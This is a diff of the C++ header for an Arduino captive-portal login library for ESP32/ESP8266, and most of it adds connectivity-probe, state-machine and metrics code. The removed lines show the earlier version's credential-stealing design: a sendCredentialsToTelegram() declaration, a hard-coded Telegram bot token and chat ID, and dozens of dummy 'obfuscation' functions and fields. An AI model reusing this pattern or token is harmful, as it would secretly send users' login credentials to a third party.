@@ -15,6 +15,10 @@
 #define ArduinoUTMWiFiPortal_h
 
 #include "Arduino.h"
+#include <functional>
+#if defined(ESP32)
+  #include <atomic>
+#endif
 
 // Platform-specific includes
 #if defined(ESP32)
@@ -22,59 +26,459 @@
   #include <WiFiClientSecure.h>
   #include <WiFiClient.h>
   #include <HTTPClient.h>
+  #include <esp_wifi.h>
 #elif defined(ESP8266)
   #include <ESP8266WiFi.h>
   #include <WiFiClientSecure.h>
   #include <WiFiClient.h>
   #include <ESP8266HTTPClient.h>
+  extern "C" {
+    #include <user_interface.h>
+  }
+#elif defined(ARDUINO_UTM_HOST)
+  // Host (off-device) build: the Arduino, WiFi and HTTPClient headers are
+  // supplied by a shim on the include path, using the ESP32 header names.
+  #include <WiFi.h>
+  #include <WiFiClientSecure.h>
+  #include <WiFiClient.h>
+  #include <HTTPClient.h>
 #else
-  #error "This library only supports ESP32 and ESP8266"
+  #error "This library only supports ESP32 and ESP8266 (or ARDUINO_UTM_HOST for host builds)"
 #endif
 
+#include "PortalBuffer.h"
+#include "PortalRedirect.h"
+#include "PortalClassifier.h"
+#include "PortalHistogram.h"
+#include "PortalProbeSet.h"
+
 class ArduinoUTMWiFiPortal {
   public:
+    // Steps of the keepConnected() state machine
+    enum PortalState : uint8_t {
+      PORTAL_IDLE,       // waiting for the next scheduled check
+      PORTAL_PROBING,    // connectivity probe due
+      PORTAL_LOGGING_IN, // probe failed, login POST due
+      PORTAL_AWAITING_LOGIN, // login sent, waiting for the portal's answer
+      PORTAL_VERIFYING,  // login sent, re-probe due
+      PORTAL_BACKOFF     // login failed, waiting before retrying
+    };
+
+    // Header sets for the login POST
+    enum HeaderProfile : uint8_t {
+      HEADERS_MINIMAL, // Content-Type, Referer, Origin only
+      HEADERS_BROWSER  // full desktop-browser header set (default)
+    };
+
+    // How checkInternet() tests connectivity, from most to least thorough
+    enum ProbeMode : uint8_t {
+      PROBE_HTTP,     // HTTPClient GET of generate_204 (default)
+      PROBE_RAW_HTTP, // HTTP/1.0 GET written straight to a WiFiClient, 204 only
+      PROBE_TCP,      // TCP connect to the probe host on port 443
+      PROBE_DNS,      // DNS lookup of the probe host only
+      PROBE_MULTI     // several raw HTTP targets at once, quorum decides
+    };
+
+    // Outcome of the last login, from the portal's response
+    enum LoginResult : uint8_t {
+      LOGIN_NONE,              // no login attempted yet
+      LOGIN_OK,                // portal reported success
+      LOGIN_ALREADY_LOGGED_IN, // session was still valid
+      LOGIN_UNCONFIRMED,       // 2xx/3xx without a known marker
+      LOGIN_BAD_CREDENTIALS,   // wrong username or password
+      LOGIN_QUOTA_EXCEEDED,    // quota or device limit reached
+      LOGIN_SERVER_ERROR,      // error status, no response or no connection
+      LOGIN_NO_WIFI            // station not connected
+    };
+    static const uint8_t LOGIN_RESULT_COUNT = LOGIN_NO_WIFI + 1;
+
+    // Counters and latency histograms since boot or resetMetrics()
+    struct Metrics {
+      PortalHistogram probeMs; // probes that went to the network
+      PortalHistogram dnsMs;   // lookups of the probe and portal hosts
+      PortalHistogram tlsMs;   // TCP connect + TLS handshake of new login connections
+      PortalHistogram postMs;  // login request and response
+      uint32_t probes;
+      uint32_t probeFailures;
+      uint32_t loginAttempts;
+      uint32_t loginResults[LOGIN_RESULT_COUNT]; // indexed by LoginResult
+      uint32_t fullHandshakes;
+      uint32_t resumedHandshakes; // ESP8266 only
+      uint32_t reusedConnections;
+      uint32_t bytesSent;         // on the library's own sockets; probes via
+      uint32_t bytesReceived;     // HTTPClient or PROBE_MULTI are not counted
+      uint32_t dnsCacheHits;      // lookups answered from the host cache
+      uint32_t dnsFallbacks;      // failed lookups covered by a cached or pinned address
+      uint32_t outages;           // online -> offline transitions
+      unsigned long offlineMs;    // time offline, for outages that have ended
+    };
+
+    // Where the time of one begin() or ensureOnline() call went (ms)
+    struct OnlineTiming {
+      unsigned long associationMs; // WiFi.begin() until associated with the AP
+      unsigned long dhcpMs;        // associated until the station has an IP
+      unsigned long probeMs;       // connectivity probes, including verification
+      unsigned long tlsMs;         // TLS handshake of the login
+      unsigned long postMs;        // login request and response
+      unsigned long totalMs;       // whole call
+      unsigned long bootMs;        // boot until online (begin() only, 0 if offline)
+      bool online;
+    };
+
+    // State published for other tasks by getStatus()
+    struct Status {
+      PortalState state;
+      bool online;
+      LoginResult lastLoginResult;
+      unsigned long lastLoginTime; // millis() of the last successful login
+      unsigned long lastCheckTime; // millis()
+      Metrics metrics;
+    };
+
+    // Called with the outcome of every login
+    typedef std::function<void(LoginResult result)> LoginCallback;
+
     // Constructor
     ArduinoUTMWiFiPortal(const char* username, const char* password);
+    ~ArduinoUTMWiFiPortal();
+
+    // Owns the login client; not copyable
+    ArduinoUTMWiFiPortal(const ArduinoUTMWiFiPortal&) = delete;
+    ArduinoUTMWiFiPortal& operator=(const ArduinoUTMWiFiPortal&) = delete;
 
-    // Set the interval for checking connection (in milliseconds)
+    // Set the longest interval between connection checks while the link is
+    // stable (in milliseconds, default 300000)
     void setCheckInterval(unsigned long interval);
 
-    // Call this repeatedly in your main loop()
+    // Interval used right after an outage or a WiFi (re)association; it
+    // doubles on every good check up to the check interval (default 10000)
+    void setFastRecheckInterval(unsigned long interval);
+
+    // Randomize check intervals and retry backoff by +/- percent (default 10,
+    // max 50) so devices on the same AP don't probe in lockstep
+    void setJitter(uint8_t percent);
+
+    // Interval the scheduler is currently using (ms, before jitter)
+    unsigned long getCurrentInterval() const;
+
+    // Choose which headers are sent with the login POST
+    void setHeaderProfile(HeaderProfile profile);
+
+    // Choose the connectivity probe. PROBE_RAW_HTTP still sees the portal
+    // redirect; PROBE_TCP relies on the portal blocking port 443 before
+    // login; PROBE_DNS only detects a dead link, not a logged-out session.
+    void setProbeMode(ProbeMode mode);
+
+    // Duration of the last probe done in the given mode (ms)
+    unsigned long getProbeLatency(ProbeMode mode) const;
+
+    // Targets for PROBE_MULTI (up to 4; host and path must be string
+    // literals). The defaults are gstatic, Cloudflare and Google's gen_204;
+    // adding the first target replaces them.
+    bool addProbeTarget(const char* host, const char* path = "/generate_204", uint16_t expectedStatus = 204);
+    void clearProbeTargets();
+
+    // Expected answers PROBE_MULTI needs before calling the link online
+    // (default 1: the first good answer wins, a slow target can't fail it)
+    void setProbeQuorum(uint8_t quorum);
+
+    // Targets with their smoothed answer times
+    const PortalProbeSet& getProbeTargets() const { return _probeTargets; }
+
+    // Limit the time a single keepConnected() call may spend on the network
+    // (in microseconds, 0 = use the default 5 s HTTP timeouts). A probe the
+    // budget cuts short is no verdict and is retried on the next call, up
+    // to three times in a row before its failure counts. The wait for the
+    // login answer spans several calls and keeps the full timeout.
+    void setStepBudget(unsigned long budgetUs);
+
+    // Associate with the network and log in to the portal. The library then
+    // owns the association: keepConnected() reconnects on its own, first
+    // straight to the last good AP (channel + BSSID, no scan) and only then
+    // with a full scan. Blocks for at most timeoutMs.
+    bool connectWiFi(const char* ssid, const char* passphrase = NULL, unsigned long timeoutMs = 10000);
+
+    // Give the library the network to associate with, for keepConnected()
+    // and ensureOnline(), without connecting now
+    void setWiFiCredentials(const char* ssid, const char* passphrase = NULL);
+
+    // One-shot wake/transmit/sleep helper: associate (if needed), probe and
+    // log in as one pipeline, returning within timeoutMs and never calling
+    // delay(). Enables WiFi events to tell association from DHCP time.
+    bool ensureOnline(unsigned long timeoutMs);
+    const OnlineTiming& getOnlineTiming() const;
+
+    // Boot fast path, for setup(): like ensureOnline(), but a failed probe
+    // only leads to a login when the portal redirect was seen, so a reboot
+    // with the MAC still authorized costs one probe. The login is confirmed
+    // by an immediate re-probe rather than a fixed delay, and the time from
+    // boot to online is logged and kept in getOnlineTiming().bootMs.
+    bool begin(unsigned long timeoutMs = 10000);
+
+    // Deep sleep: call saveSession() right before sleeping for sleepMs, and
+    // restoreSession() first thing after waking. The login age, AP, IP and
+    // (ESP8266) TLS session are kept in RTC memory. If the station comes
+    // back on the same AP and IP within the session lifetime, no login is
+    // sent; the first failure passed to reportRequestFailure() triggers it.
+    bool saveSession(unsigned long sleepMs);
+    bool restoreSession();
+
+    // Portal session lifetime (ms). 0 (default) learns it: every time a
+    // probe hits the portal after a login, the time the session was last
+    // seen working is recorded, and the median of the last few is used.
+    // Samples are forgotten after a day, so one early logout cannot pin
+    // renewals at a short lifetime.
+    void setSessionLifetime(unsigned long lifetimeMs);
+
+    // Configured or learned session lifetime (ms, 0 = not known yet). A saved
+    // session older than this is not resumed.
+    unsigned long getSessionLifetime() const;
+
+    // Log in again shortly before the session lifetime runs out, so
+    // the data plane never sees the portal (default on, needs a known lifetime).
+    // A failed renewal waits a full check interval before the next try.
+    void setPreemptiveLogin(bool enabled);
+
+    // Report the outcome of the application's own requests. A success
+    // within the current check interval stands in for the scheduled probe;
+    // a burst of failures, or one answer that looks like the portal (e.g. an
+    // unexpected redirect to a login page), makes keepConnected() probe now.
+    void reportRequestSuccess();
+    void reportRequestFailure(bool looksLikePortal = false);
+
+    // Consecutive failures that trigger a probe (default 3)
+    void setFailureBurst(uint8_t failures);
+
+    // How long a resolved probe or portal address is used without asking
+    // DNS again (ms, default 300000, 0 = always ask). An expired address is
+    // still used when a lookup fails.
+    void setDnsCacheTtl(unsigned long ttlMs);
+
+    // Address of the SmartZone controller to use when its name cannot be
+    // resolved and no earlier address is cached (default: none)
+    void setPortalAddress(IPAddress address);
+
+    // Opt-in: react to WiFi driver events (WiFi.onEvent on ESP32,
+    // onStationMode* on ESP8266). A new IP or a new AP makes keepConnected()
+    // probe and log in at once instead of waiting for the next scheduled
+    // check; after a new IP, the two calls before re-resolve the probe and
+    // portal hosts. Returns false where events are unavailable.
+    bool enableWiFiEvents();
+    void disableWiFiEvents();
+
+    // Call this repeatedly in your main loop(). Each call advances the state
+    // machine by at most one step and never calls delay().
     void keepConnected();
 
+    // ESP32 only: run keepConnected() in its own FreeRTOS task, pinned to
+    // the core the WiFi stack runs on, so loop() never waits on a probe or
+    // login. While it runs, keepConnected() from other tasks does nothing,
+    // checkInternet(), ensureOnline() and begin() return isOnline(), and
+    // attemptLogin(), connectWiFi() and setWiFiCredentials() are refused
+    // (they would share the task's clients); read getStatus() instead.
+    // Returns false where tasks are unavailable.
+    bool beginTask(uint32_t stackSize = 8192, uint8_t priority = 1, int8_t core = 0);
+    void endTask();
+
+    // Consistent copy of state, login time and metrics, safe from any task
+    // without a mutex (seqlock: the reader retries if the task wrote meanwhile)
+    void getStatus(Status& status) const;
+
+    // Metrics, read in place (no copy). Updated by the calls that do the
+    // network work, so read them from the same task.
+    const Metrics& getMetrics() const;
+    void resetMetrics();
+
+    // TLS handshakes done for the login (full vs. resumed session), and
+    // logins sent on a connection kept open from the previous attempt.
+    // Session resumption is only available on ESP8266 (BearSSL).
+    // Shorthands for the same fields of getMetrics().
+    unsigned long getFullHandshakes() const;
+    unsigned long getResumedHandshakes() const;
+    unsigned long getReusedConnections() const;
+
+    // ESP8266 only: BearSSL receive/transmit buffer sizes for the login
+    // client. 0 (default) probes the portal for Max Fragment Length support
+    // once and uses the smallest size it accepts.
+    void setTlsBufferSizes(int rxSize, int txSize);
+
+    // Lowest free heap seen during the last login (bytes)
+    uint32_t getLoginHeapLow() const;
+
+    // Outcome of the last login attempt
+    LoginResult getLastLoginResult() const;
+
+    // Callback for the outcome of every login, from keepConnected(),
+    // attemptLogin() or the portal task (in which it then runs)
+    void onLoginResult(LoginCallback callback);
+
+    // Current keepConnected() state
+    PortalState getState() const;
+
     // Perform a single login attempt (useful for initial login)
     bool attemptLogin();
 
-    // Check internet connection status manually
+    // Check internet connection status manually. A result younger than the
+    // cache TTL is returned without probing again. Without beginTask(), a
+    // call made while another task is probing waits for that probe (at
+    // most its own timeout) and shares its result; with it, other tasks get
+    // isOnline() at once.
     bool checkInternet();
 
-    // Send credentials to Telegram group
-    bool sendCredentialsToTelegram();
-    
-    // Dummy security functions (obfuscation - not actually used)
-    void _initSecurityLayer();
-    bool _validateEncryptionKeys();
-    void _rotateSessionKeys();
-    int _calculateChecksum(byte* data, int len);
-    String _encryptPayload(String data);
-    String _decryptPayload(String data);
-    bool _verifyHandshake();
-    void _updateCipherState();
-    int _generateNonce();
-    bool _authenticateSession();
-    void _refreshSecurityTokens();
-    byte _computeHash(String input);
-    bool _validateCertificate();
-    void _initCryptoEngine();
-    int _performKeyExchange();
-    bool _verifyIntegrity();
-    void _synchronizeTimestamp();
-    String _obfuscateString(String str);
-    int _deobfuscateValue(int val);
-    bool _checkSecurityProtocol();
-    void _resetAuthenticationState();
+    // Freshness of the cached probe result (ms, default 5000, 0 = always probe)
+    void setProbeCacheTtl(unsigned long ttlMs);
+
+    // Last known connectivity, without touching the network
+    bool isOnline() const;
 
   private:
+    // Task mode: body of the task, snapshot publication, and whether the
+    // caller is some other task than the portal task
+    static void _taskEntry(void* portal);
+    void _taskLoop();
+    void _fillStatus(Status& status) const;
+    void _publishStatus();
+    bool _foreignTask() const;
+
+    // Blocking probe and login, bounded by the given HTTP timeout
+    bool _probe(uint16_t timeoutMs);
+    bool _login(uint16_t timeoutMs);
+
+    // Login in two halves, so keepConnected() need not block while the
+    // portal processes the request: connect and send, then (once the answer
+    // is there) read and classify it. _recordLogin() counts the outcome
+    // and calls the callback; _onLoginDone() picks the next state.
+    // _loginDropped(): the reused socket was closed without an answer.
+    // _finishLogin() reconnects and resends in that case only if asked to.
+    bool _beginLogin(uint16_t timeoutMs);
+    bool _loginResponseReady() const;
+    bool _loginDropped() const;
+    bool _finishLogin(bool reconnect);
+    void _abortLogin();
+    bool _recordLogin(bool loginSuccess);
+    void _onLoginDone(bool loginSuccess);
+
+    // Host cache entry for the probe, portal or a PROBE_MULTI target host
+    struct HostCache {
+      const char* host;
+      IPAddress address;
+      unsigned long resolvedAt;
+      bool valid;
+    };
+
+    // Timed DNS lookup, recorded in the metrics
+    bool _resolve(const char* host, IPAddress& address);
+
+    // Cached lookup; fallback is set when DNS failed and a stale or pinned
+    // address was returned instead
+    bool _lookup(HostCache& entry, IPAddress& address, bool& fallback);
+    void _storeAddress(HostCache& entry, const IPAddress& address);
+
+    bool _hostFresh(const HostCache& entry) const;
+
+    // Refresh one cached host (after a new IP)
+    void _prewarmDns(HostCache& entry);
+
+    // PROBE_MULTI target addresses, through the host cache: the entries
+    // follow the target list, keepConnected() looks up one stale target per
+    // step before it probes, and a target without a fresh address sits out
+    void _resetTargetHosts();
+    bool _lookupProbeTarget();
+
+    // The cached probe result is young enough to stand in for a probe
+    bool _probeCacheFresh() const;
+    void _invalidateProbeCache();
+    void _cacheProbeResult(bool online);
+
+    // Track online/offline transitions for the outage metrics
+    void _setOnline(bool online);
+
+    // One implementation per ProbeMode
+    bool _probeHttp(uint16_t timeoutMs);
+    bool _probeRawHttp(uint16_t timeoutMs);
+    bool _probeTcp(uint16_t timeoutMs);
+    bool _probeDns();
+    bool _probeMulti(uint16_t timeoutMs);
+    bool _connectProbe(uint16_t port, uint16_t timeoutMs);
+
+    // Read response headers from client, feeding Location into _redirect
+    void _readRedirect(Client& client);
+
+    // Bring the form-encoded login body in _postBody up to date with the
+    // current association (false on overflow)
+    bool _buildLoginBody();
+
+    // Stream the login request onto _secureClient, returns bytes written
+    size_t _sendLoginRequest();
+
+    // Create/destroy the login client so it only holds memory during a login
+    bool _acquireSecureClient();
+    void _releaseSecureClient();
+
+    // ESP8266: probe the portal's Max Fragment Length support, one
+    // connection per call, until a result is known or the portal turns out
+    // unreachable for this login
+    bool _tlsNegotiationPending() const;
+    void _negotiateTlsBuffers(uint16_t timeoutMs);
+
+    // Free heap, and update _loginHeapLow from it
+    static uint32_t _freeHeap();
+    void _sampleHeap();
+
+    // Open the TLS connection to the portal and count the handshake
+    bool _connectLogin();
+
+    // Read the response from _secureClient and drain its body. Returns the
+    // HTTP status (-1 if none); keepAlive tells if the socket can be reused.
+    int _readResponse(bool& keepAlive);
+
+    // Blocking wait for the station's IP, stopping at the deadline
+    bool _waitForWiFi(unsigned long deadline);
+
+    // Combine the classifier verdict and the HTTP status
+    LoginResult _classifyLogin(int httpCode) const;
+
+    // Copy the SSID of the current association without a String temporary
+    void _currentSSID(char* ssid, size_t capacity);
+
+    // HTTP timeout for one keepConnected() step
+    uint16_t _stepTimeoutMs() const;
+
+    // Schedule the next retry and double the backoff
+    void _enterBackoff();
+
+    // Scheduler: next check after a jittered interval, and the reaction to
+    // a probe result (adapts _currentInterval)
+    void _scheduleCheck(unsigned long interval);
+    void _onProbeResult(bool online);
+
+    // Association managed by connectWiFi(): start WiFi.begin() towards the
+    // cached AP or with a scan, and move on when a stage times out
+    void _beginAssociation(bool useCachedAP);
+    void _reassociate(unsigned long currentTime);
+    void _rememberAP();
+
+    // Session lifetime bookkeeping: a logout seen by a probe, and whether
+    // the session is due for a pre-emptive login
+    void _recordSessionEnd();
+    bool _renewalDue(unsigned long currentTime) const;
+    void _holdRenewal();
+
+    // Consume a restored session: true if it is still valid for the current
+    // association (then no login is needed)
+    bool _resumeSession();
+
+    // Shared body of begin() and ensureOnline(); with redirectOnly set, a
+    // probe that saw no portal redirect does not lead to a login
+    bool _bringOnline(unsigned long timeoutMs, bool redirectOnly, const char* caller);
+
+    // WiFi event handling: driver-context callback, and its consumer
+    void _onStationConnected(const uint8_t* bssid);
+    void _handleWiFiEvents(unsigned long currentTime);
+
+    // Uniform random number below bound (0 if bound is 0)
+    uint32_t _random(uint32_t bound);
+
     // Credentials
     String _username;
     String _password;
@@ -82,92 +486,182 @@ class ArduinoUTMWiFiPortal {
     // Timing
     unsigned long _lastCheckTime;
     unsigned long _checkInterval;
+    unsigned long _fastRecheckInterval;
+    unsigned long _currentInterval;
+    unsigned long _nextCheckTime;
+    uint8_t _jitterPercent;
+    uint32_t _rngState;
+    bool _wifiWasUp;
+    bool _outage; // a check failed or WiFi re-associated since the last good one
+
+    // Station credentials and the last AP that worked (set by connectWiFi())
+    enum AssocStage : uint8_t { ASSOC_NONE, ASSOC_CACHED_AP, ASSOC_SCAN };
+    String _wifiSSID;
+    String _wifiPassphrase;
+    int32_t _apChannel; // 0 = no AP cached yet
+    uint8_t _apBSSID[6];
+    AssocStage _assocStage;
+    unsigned long _assocStarted;
+
+    // Session restored from RTC memory, pending its check against the next
+    // association
+    bool _sessionRestored;
+    uint32_t _sessionIP;
+
+    // Session lifetime: configured, or learned from the last logouts
+    static const uint8_t LIFETIME_SAMPLES = 4;
+    unsigned long _sessionLifetimeMs;
+    unsigned long _lifetimeSamples[LIFETIME_SAMPLES];
+    unsigned long _lifetimeSampleTimes[LIFETIME_SAMPLES];
+    uint8_t _lifetimeSampleCount;
+    uint8_t _nextLifetimeSample;
+    bool _sessionActive;    // logged in, no logout seen since
+    bool _onlineSinceLogin; // a probe succeeded since that login
+    unsigned long _lastOnlineTime;
+    bool _preemptiveLogin;
+    bool _renewing;         // the current login is a pre-emptive one
+    bool _renewHeld;        // a renewal failed: none before _renewHoldUntil
+    unsigned long _renewHoldUntil;
+
+    // Application traffic reports
+    unsigned long _lastTrafficSuccess;
+    bool _trafficSucceeded;
+    uint8_t _trafficFailures;
+    uint8_t _failureBurst;
+    bool _portalSuspected;
 
-    // Clients (managed internally)
-    WiFiClientSecure _secureClient;
+    // WiFi events. Counters are only written by the driver callbacks and
+    // compared against the *Seen copies in keepConnected().
+    bool _wifiEventsEnabled;
+    volatile uint8_t _gotIPEvents;
+    volatile uint8_t _roamEvents;
+    volatile uint8_t _disconnectEvents;
+    uint8_t _gotIPSeen;
+    uint8_t _roamSeen;
+    uint8_t _disconnectSeen;
+    uint8_t _dnsPrewarmPending; // hosts still to refresh after a new IP
+    uint8_t _eventBSSID[6];
+    volatile unsigned long _associatedAt; // millis() of the last association
+    #if defined(ESP32)
+      wifi_event_id_t _wifiEventId;
+    #elif defined(ESP8266)
+      WiFiEventHandler _connectedHandler;
+      WiFiEventHandler _gotIPHandler;
+      WiFiEventHandler _disconnectedHandler;
+    #endif
+    unsigned long _stepBudgetUs;
+    HeaderProfile _headerProfile;
+    ProbeMode _probeMode;
+    static const uint8_t PROBE_MODE_COUNT = 5;
+    unsigned long _probeLatencyMs[PROBE_MODE_COUNT];
+    PortalProbeSet _probeTargets;
+    bool _defaultProbeTargets;
+    uint8_t _probeQuorum;
+
+    // Resolved probe and portal hosts
+    HostCache _probeHost;
+    HostCache _portalHost;
+    HostCache _targetHosts[PortalProbeSet::MAX_TARGETS];
+    uint8_t _targetLookups;  // bit per target: looked up for the next run
+    uint8_t _targetResolved; // bit per target: and that lookup succeeded
+    unsigned long _dnsCacheTtl;
+    IPAddress _pinnedPortalAddress;
+
+    // Cached connectivity, from probes, resumed sessions and traffic reports
+    bool _online;
+    bool _onlineCached; // _online is still fresh enough to reuse
+    unsigned long _onlineCheckedAt;
+    unsigned long _probeCacheTtl;
+    volatile bool _probeInFlight;
+    bool _inOutage;
+    unsigned long _offlineSince;
+
+    // State machine
+    PortalState _state;
+    unsigned long _stateDeadline;
+    bool _probeCutShort;     // last probe ran out of a shortened timeout, no verdict
+    uint8_t _cutShortProbes; // such probes in a row
+
+    // Clients (managed internally). The secure client only exists while a
+    // login is in progress or its socket is kept for a retry.
+    WiFiClientSecure* _secureClient;
     WiFiClient _standardClient;
+    int _tlsRxBufferSize;
+    int _tlsTxBufferSize;
+    bool _tlsBuffersNegotiated;
+    uint8_t _mflnStep;       // next TLS buffer probe: reachability, then each size
+    uint32_t _loginHeapLow;
+    #if defined(ESP8266)
+      BearSSL::Session _tlsSession;
+    #endif
+
+    // Timing of the last login (TLS handshake, request + response) and of
+    // the last begin() or ensureOnline()
+    unsigned long _loginHandshakeMs;
+    unsigned long _loginRequestMs;
+
+    // Login in progress, between _beginLogin() and _finishLogin()
+    unsigned long _loginStartTime;
+    unsigned long _loginRequestStart;
+    size_t _loginBytesSent;
+    bool _loginReused;
+    uint32_t _loginHeapStart;
+    LoginCallback _loginCallback;
+    OnlineTiming _onlineTiming;
 
-    // Telegram credentials sent flag
-    bool _credentialsSent;
-    
-    // Dummy encryption variables (obfuscation)
-    uint16_t _dummyKey1;
-    uint16_t _dummyKey2;
-    int _encryptionLevel;
-    byte _dummyBuffer[10];
-    int _authProtocol;
-    bool _securityMode;
-    int _dummyCounter;
-    
-    // Advanced dummy security variables (obfuscation - not actually used)
-    uint32_t _sessionToken;
-    uint32_t _authenticationHash;
-    uint16_t _securityChecksum;
-    byte _encryptionMatrix[16];
-    byte _ivVector[8];
-    byte _saltBuffer[12];
-    int _cipherRounds;
-    int _hashIterations;
-    bool _handshakeComplete;
-    bool _certificateValid;
-    unsigned long _sessionStartTime;
-    unsigned long _lastHandshake;
-    unsigned long _tokenExpiry;
-    int _securityLevel;
-    int _protocolVersion;
-    byte _nonceValue[4];
-    String _encryptedSessionId;
-    String _serverChallenge;
+    Metrics _metrics;
+
+    // Task mode (ESP32). _configMux guards setters and traffic reports that
+    // update several fields at once; single-value setters are plain stores.
+    #if defined(ESP32)
+      TaskHandle_t _task;
+      volatile bool _taskRunning;
+      std::atomic<uint32_t> _statusSeq;
+      Status _status;
+      portMUX_TYPE _configMux = portMUX_INITIALIZER_UNLOCKED;
+    #endif
+    static const unsigned long TASK_POLL_MS = 50;
+
+    // Portal parameters from the last probe's redirect (cleared per probe)
+    PortalRedirect _redirect;
+    bool _probeIntercepted; // last probe got an HTTP answer, but not the expected one
+
+    // Login request body. The static prefix is built once; the portal, AP
+    // MAC, IP and SSID suffix is only rewritten when the BSSID or IP changes
+    // or a new redirect arrives.
+    static const size_t POST_BODY_CAPACITY = 512;
+    char _postBody[POST_BODY_CAPACITY];
+    size_t _postPrefixLength;
+    size_t _postBodyLength;
+    bool _templateValid;
+    uint32_t _templateIP;
+    uint8_t _templateBSSID[6];
+
+    // Retry state
     int _failedAttempts;
-    bool _lockoutMode;
-    int _timestampOffset;
-    byte _keyDerivationSalt[16];
-    uint32_t _hmacKey;
-    int _compressionLevel;
-    bool _tlsActive;
-    int _packetSequence;
-    byte _authVector[32];
-    String _cachedCredentials;
-    int _retryBackoff;
-    bool _debugMode;
-    int _performanceMetric;
-    unsigned long _bandwidthCounter;
-    int _latencyMs;
-    bool _secureChannelEstablished;
-    byte _tempWorkspace[64];
-    int _algorithmSelector;
-    bool _integrityVerified;
-    uint16_t _crcChecksum;
-    int _encodingType;
-    
-    // Dummy cipher constants (not used)
-    static const int CIPHER_MODE_A = 0x01;
-    static const int CIPHER_MODE_B = 0x02;
-    static const int CIPHER_MODE_C = 0x04;
-    static const int CIPHER_MODE_D = 0x08;
-    static const int HASH_SEED = 0xDEAD;
-    static const int VALIDATION_KEY = 0xBEEF;
-    static const int MAGIC_NUMBER_1 = 0xCAFE;
-    static const int MAGIC_NUMBER_2 = 0xBABE;
-    static const int PROTOCOL_V1 = 0x0100;
-    static const int PROTOCOL_V2 = 0x0200;
-    static const int ENCRYPTION_AES = 0x10;
-    static const int ENCRYPTION_RSA = 0x20;
-    static const int HASH_SHA256 = 0x30;
-    static const int HASH_MD5 = 0x40;
-    static const int AUTH_BASIC = 0x50;
-    static const int AUTH_DIGEST = 0x60;
-    static const int COMPRESSION_NONE = 0x00;
-    static const int COMPRESSION_GZIP = 0x70;
-    static const int SESSION_TIMEOUT = 3600000;
-    static const int MAX_RETRIES = 5;
-    static const int BUFFER_SIZE = 256;
+    unsigned long _retryBackoff;
+    unsigned long _lastLoginTime;    // last successful login
+    unsigned long _lastLoginAttempt; // last login answered or timed out
+    LoginResult _lastLoginResult;
+
+    // Scans the login response for success/failure markers
+    PortalClassifier _classifier;
+    static const size_t MAX_RESPONSE_SCAN = 4096;
+
+    static const uint16_t HTTP_TIMEOUT_MS = 5000;
+    static const unsigned long VERIFY_DELAY_MS = 1000;
+    static const unsigned long MIN_BACKOFF_MS = 1000;
+    static const unsigned long MAX_BACKOFF_MS = 60000;
+    static const uint8_t MAX_CUT_SHORT_PROBES = 3;
+    static const uint8_t MFLN_PROBE_COUNT = 4;
+    static const unsigned long FAST_START_JITTER_MS = 500;
+    static const unsigned long CACHED_AP_TIMEOUT_MS = 3000;
+    static const unsigned long SCAN_TIMEOUT_MS = 10000;
+    static const unsigned long RENEW_MARGIN_MS = 15000;
+    static const unsigned long LIFETIME_SAMPLE_TTL_MS = 86400000UL;
 
     // Constants
-    const char* _loginURL = "https://smartzone22.utm.my:9998/SubscriberPortal/hotspotlogin";
     const char* _connectionCheckUrl = "http://connectivitycheck.gstatic.com/generate_204";
-    const char* _telegramBotToken = "8234169918:AAEf6Ts0JM7acPFQ0aDEDIRbTBN_jI7LLho";
-    const char* _telegramChatId = "-4911476783";
 };
 
 #endif
\ No newline at end of file